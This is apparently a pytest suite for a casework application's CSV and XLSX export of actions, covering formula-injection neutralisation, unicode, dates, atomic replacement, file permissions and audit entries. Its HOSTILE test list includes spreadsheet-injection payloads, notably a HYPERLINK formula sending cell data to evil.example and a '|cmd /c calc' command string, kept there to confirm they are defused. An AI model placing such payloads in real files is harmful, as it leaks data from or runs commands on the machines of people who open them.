"""Exporting actions to CSV and XLSX: formula safety, unicode, dates, atomic replacement,
permissions and the audit entry; and the spreadsheet-safety rule itself."""

from __future__ import annotations

import csv
import errno
import os
import tempfile
import uuid
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from casework import agency_id, audit_count, audit_since, hub_id, new_case
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from hubapp.domain.spreadsheet import QUOTE, XLSX_CELL_MAX, needs_quote, safe_cell, xlsx_text
from hubapp.store import audit, files
from hubapp.store.casework.assignments import set_role
from hubapp.store.errors import StoreError
from hubapp.store.exchange import export
from hubapp.store.exchange.export import HEADINGS, ExportCancelled, export_actions
from hubapp.store.schema import Action

TODAY = date(2026, 11, 25)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)",
    "|cmd /c calc", "%x", "\tx", "\rx", " =1+1", "\uff1dSUM(1)",
]  # fmt: skip
NAMES = [
    "Siân Ó Súilleabháin",
    "Łukasz Wiśniewski",
    "Zoë Ørsted-Ng",
    "Дмитрий",
    "王小明 \U0001f3e0",
]


@pytest.fixture
def data(store):
    """A Carlisle case whose actions carry hostile and unicode text (as sync could bring)."""
    case = new_case(store, "CAR-2026-0042")
    police, council = agency_id(store, "POLICE"), agency_id(store, "CUMBERLAND")
    kendal = new_case(store, "SLK-2026-0001", hub="SLK")
    set_role(store, case, police, "lead")
    set_role(store, case, council, "support")
    set_role(store, kendal, police, "lead")
    with store.write() as s:
        for i, text in enumerate(HOSTILE):
            s.add(
                Action(
                    id=uuid.uuid4(), case_id=case, agency_id=police, owner=NAMES[i % len(NAMES)],
                    description=text, due_on=TODAY + timedelta(days=3 * i - 3), status="open",
                    outcome=text,
                )
            )  # fmt: skip
        s.add(
            Action(
                id=uuid.uuid4(), case_id=case, agency_id=council, owner="Environmental Health",
                description="Line one\nLine two, with a comma and \"quotes\"", due_on=None,
                status="done", completed_on=TODAY, outcome="Fixed penalty notice issued",
            )
        )  # fmt: skip
        s.add(
            Action(
                id=uuid.uuid4(), case_id=kendal, agency_id=police, owner="PC Kendal",
                description="Patrol the Kent riverside", due_on=TODAY + timedelta(days=30),
                status="in_progress",
            )
        )  # fmt: skip
    return {"case": case, "kendal": kendal, "POLICE": police, "CUMBERLAND": council}


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


# --- CSV ----------------------------------------------------------------------------------


def test_csv_export(store, data, tmp_path):
    path = tmp_path / "actions.csv"
    n = export_actions(store, path, "csv", today=TODAY)
    assert n == len(HOSTILE) + 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel on Windows
    rows = read_csv(path)
    assert rows[0] == list(HEADINGS) and len(rows) == n + 1
    by_ref = [r for r in rows[1:] if r[0] == "CAR-2026-0042" and r[2] == "Cumbria Constabulary"]
    described = {r[4] for r in by_ref}
    assert described == {QUOTE + text for text in HOSTILE}  # every one neutralised
    for r in by_ref:
        assert r[8] == r[4]  # the outcome too
        for cell in r:
            assert not cell or cell[0] not in "=+-@|%\t\r"
    owners = {r[3] for r in by_ref}
    assert set(NAMES) <= owners  # unicode intact
    council = next(r for r in rows if r[2] == "Cumberland Council")
    assert council[4] == 'Line one\nLine two, with a comma and "quotes"'
    assert (council[5], council[6], council[7], council[9]) == ("", "Done", "", TODAY.isoformat())
    due = sorted(r[5] for r in by_ref)
    assert due[0] == (TODAY - timedelta(3)).isoformat()  # ISO 8601
    assert {r[7] for r in by_ref} == {"Red", "Amber", "Green"}
    assert {r[1] for r in rows[1:]} == {"Carlisle", "South Lakeland"}


def test_filters_by_agency_and_hub(store, data, tmp_path):
    path = tmp_path / "a.csv"
    assert export_actions(store, path, "csv", agency_id=data["CUMBERLAND"], today=TODAY) == 1
    assert export_actions(store, path, "csv", hub_id=hub_id(store, "SLK"), today=TODAY) == 1
    assert read_csv(path)[1][0] == "SLK-2026-0001"
    assert export_actions(
        store, path, "csv", agency_id=data["POLICE"], hub_id=hub_id(store, "CAR"), today=TODAY
    ) == len(HOSTILE)
    empty = tmp_path / "none.csv"
    assert export_actions(store, empty, "csv", agency_id=agency_id(store, "NHW")) == 0
    assert read_csv(empty) == [list(HEADINGS)]


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx_export(store, data, tmp_path):
    path = tmp_path / "actions.xlsx"
    n = export_actions(store, path, "xlsx", today=TODAY)
    assert n == len(HOSTILE) + 2
    wb = openpyxl.load_workbook(path)
    ws = wb["Actions"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == list(HEADINGS) and len(rows) == n + 1
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:J{n + 1}"
    assert "OFFICIAL-SENSITIVE" in ws.oddHeader.center.text
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"  # never a formula
            if isinstance(cell.value, str):
                assert not needs_quote(cell.value)
    police = [r for r in rows[1:] if r[2] == "Cumbria Constabulary" and r[0].startswith("CAR")]
    # (XML keeps no carriage returns: a line break is a line feed in an XLSX cell)
    assert {r[4] for r in police} == {QUOTE + t.replace("\r", "\n") for t in HOSTILE}
    assert set(NAMES) <= {r[3] for r in police}
    # real date cells
    dues = [row[5] for row in ws.iter_rows(min_row=2) if row[5].value is not None]
    assert len(dues) == len(HOSTILE) + 1
    for due in dues:
        assert isinstance(due.value, datetime) and due.number_format == "yyyy-mm-dd"
    done = next(r for r in rows if r[2] == "Cumberland Council")
    assert done[9] == datetime(TODAY.year, TODAY.month, TODAY.day) and done[5] is None
    assert done[4] == 'Line one\nLine two, with a comma and "quotes"'
    # sensible widths: the description column is wider than the status column, and capped
    widths = {c: ws.column_dimensions[c].width for c in "ABCDEFGHIJ"}
    assert widths["E"] > widths["G"] >= len("Status")
    assert max(widths.values()) <= 62


def test_xlsx_survives_text_xml_cannot_hold(store, tmp_path):
    case = new_case(store, "CAR-2026-0099")
    police = agency_id(store, "POLICE")
    set_role(store, case, police, "lead")
    with store.write() as s:
        s.add(
            Action(
                id=uuid.uuid4(), case_id=case, agency_id=police, status="open",
                description="bell\x07 and NUL\x00 and =1+1 " + "x" * 40_000,
            )
        )  # fmt: skip
    path = tmp_path / "odd.xlsx"
    assert export_actions(store, path, "xlsx") == 1
    value = openpyxl.load_workbook(path)["Actions"]["E2"].value
    assert value.startswith("bell\ufffd and NUL\ufffd and =1+1")
    assert len(value) == XLSX_CELL_MAX and value.endswith("\u2026")
    csv_path = tmp_path / "odd.csv"
    export_actions(store, csv_path, "csv")
    assert read_csv(csv_path)[1][4].startswith("bell\x07 and NUL")  # CSV keeps the text


# --- safety of the file itself ------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_file_is_private_and_replaces_the_old_one(store, data, tmp_path, fmt):
    path = tmp_path / f"actions.{fmt}"
    path.write_text("an older export")
    os.chmod(path, 0o644)
    export_actions(store, path, fmt)
    assert path.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        path.name,
        "hub.sqlite3",
        "hub.sqlite3-shm",
        "hub.sqlite3-wal",
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_failing_writer_leaves_the_old_file_untouched(store, data, tmp_path, monkeypatch, fmt):
    path = tmp_path / f"actions.{fmt}"
    path.write_bytes(b"the previous export")
    entries = audit_count(store)
    real = export._write_csv if fmt == "csv" else export._write_xlsx

    def full_disk(fh, rows, report):
        real(fh, rows[:2], report)  # part of the file is written...
        raise OSError(errno.ENOSPC, "No space left on device")  # ...then the disk is full

    monkeypatch.setattr(export, "_write_csv" if fmt == "csv" else "_write_xlsx", full_disk)
    with pytest.raises(OSError) as err:
        export_actions(store, path, fmt)
    assert err.value.errno == errno.ENOSPC
    assert path.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no leftovers
    assert audit_count(store) == entries  # nothing disclosed, nothing logged


def test_a_failing_flush_to_disk_leaves_the_old_file_untouched(store, data, tmp_path, monkeypatch):
    path = tmp_path / "actions.csv"
    path.write_bytes(b"the previous export")

    def fsync(_fd):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(files.os, "fsync", fsync)
    with pytest.raises(OSError):
        export_actions(store, path, "csv")
    assert path.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_failing_audit_entry_keeps_the_file_out_of_place(store, data, tmp_path, monkeypatch):
    path = tmp_path / "actions.csv"
    path.write_bytes(b"the previous export")

    def broken(*_a, **_k):
        raise RuntimeError("audit log unavailable")

    monkeypatch.setattr(export.audit, "record", broken)
    with pytest.raises(RuntimeError):
        export_actions(store, path, "csv")
    assert path.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.skipif(
    os.name != "posix" or os.geteuid() == 0, reason="root ignores folder permissions"
)
def test_a_read_only_folder_is_refused_and_the_old_file_kept(store, data, tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    path = folder / "actions.csv"
    path.write_bytes(b"the previous export")
    os.chmod(folder, 0o500)
    try:
        with pytest.raises(PermissionError):
            export_actions(store, path, "csv")
    finally:
        os.chmod(folder, 0o700)
    assert path.read_bytes() == b"the previous export"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_progress_and_cancel(demo_store, tmp_path, monkeypatch, fmt):
    monkeypatch.setattr(export, "PROGRESS_EVERY", 500)
    path = tmp_path / f"actions.{fmt}"
    path.write_bytes(b"the previous export")
    seen: list[tuple[float, str]] = []

    def cancel_halfway(fraction: float, message: str) -> bool:
        seen.append((fraction, message))
        return fraction < 0.5

    entries = audit_count(demo_store)
    spooled = set(Path(tempfile.gettempdir()).glob("openpyxl.*"))
    with pytest.raises(ExportCancelled, match="cancelled; no file was written"):
        export_actions(
            demo_store, path, fmt, hub_id=hub_id(demo_store, "CAR"), progress=cancel_halfway
        )
    assert path.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    assert audit_count(demo_store) == entries
    # openpyxl's own spool file (rows of personal data) is not left in the temporary folder
    assert set(Path(tempfile.gettempdir()).glob("openpyxl.*")) <= spooled
    fractions = [f for f, _ in seen]
    assert fractions == sorted(fractions) and fractions[0] == 0.0 and fractions[-1] >= 0.5
    assert seen[1][1].startswith("Writing action 1 of ")

    seen.clear()
    n = export_actions(demo_store, path, fmt, progress=lambda f, m: seen.append((f, m)) or True)
    assert seen[-1] == (1.0, f"Exported {n:,} actions")


def test_a_folder_refusing_new_files_keeps_the_old_file(store, data, tmp_path, monkeypatch):
    """The same as a read-only folder, also when the tests run as root."""
    path = tmp_path / "actions.xlsx"
    path.write_bytes(b"the previous export")

    def refuse(*_a, **_k):
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path))

    monkeypatch.setattr(files.tempfile, "mkstemp", refuse)
    with pytest.raises(OSError) as err:
        export_actions(store, path, "xlsx")
    assert err.value.errno == errno.EACCES
    assert str(err.value) == f"Cannot write {path}: permission denied."
    assert path.read_bytes() == b"the previous export"


def test_bad_requests(store, tmp_path):
    with pytest.raises(StoreError, match="Cannot export as 'pdf'; choose csv or xlsx."):
        export_actions(store, tmp_path / "x.pdf", "pdf")  # type: ignore[arg-type]
    with pytest.raises(StoreError, match="is a folder"):
        export_actions(store, tmp_path, "csv")


def test_an_export_is_audited_as_a_disclosure(store, data, tmp_path):
    start = audit_count(store)
    path = tmp_path / "actions.xlsx"
    n = export_actions(store, path, "xlsx", agency_id=data["POLICE"], today=TODAY)
    (entry,) = audit_since(store, start)
    assert (entry.kind, entry.entity, entry.reason) == ("disclosure", "action", "actions exported")
    assert len(entry.record_ids) == n
    assert entry.details["format"] == "xlsx" and entry.details["rows"] == n
    assert entry.details["file"] == str(path) and entry.details["agency_id"] == str(data["POLICE"])
    with store.read() as s:
        assert audit.verify_chain(s) is None


def test_demo_export_round_trip(demo_store, tmp_path):
    path = tmp_path / "demo.csv"
    n = export_actions(demo_store, path, "csv")
    with demo_store.read() as s:
        assert n == s.scalar(select(func.count()).select_from(Action).where(~Action.voided))
    assert len(read_csv(path)) == n + 1


# --- the rule itself ----------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE + ["\uff0b1", "\n=1", "  @x", "\uff5ccmd", "\uff05x"])
def test_safe_cell_neutralises(text):
    assert safe_cell(text) == QUOTE + text


@pytest.mark.parametrize(
    "value", ["Bitts Park", "", "'=already safe", "1+1", "a=b", "x-1", 42, -2, 1.5, None,
              date(2026, 1, 1)],
)  # fmt: skip
def test_safe_cell_leaves_the_rest_alone(value):
    assert safe_cell(value) == value


_ANY_TEXT = st.one_of(
    st.text(max_size=200),
    st.text(alphabet=st.characters(codec=None), max_size=50),
    st.sampled_from(HOSTILE + ["\x00", "\U0001f600", "<b>x</b>", "x" * 10_000, "\x00=1"]),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE + [" ", "\x00"]), st.text(max_size=50)),
    st.builds(lambda piece: (piece * 10_000)[:10_000], st.text(min_size=1, max_size=8)),
)


@settings(max_examples=1500, deadline=None)
@given(_ANY_TEXT)
def test_safe_cell_properties(text):
    out = safe_cell(text)
    assert out in (text, QUOTE + text)  # nothing but the quote is ever changed
    assert not needs_quote(out)  # the result is always safe
    assert safe_cell(out) == out  # and applying it again changes nothing
    if text[:1] in set("=+-@|%\t\r"):
        assert out == QUOTE + text


@settings(max_examples=300, deadline=None)
@given(_ANY_TEXT)
def test_xlsx_text_is_always_storable(text):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out = xlsx_text(text)
    assert len(out) <= XLSX_CELL_MAX and not needs_quote(out)
    assert not ILLEGAL_CHARACTERS_RE.search(out)
    out.encode("utf-8")  # no lone surrogates
    assert "\r" not in out
    ws = openpyxl.Workbook().active
    ws["A1"] = out  # openpyxl accepts it
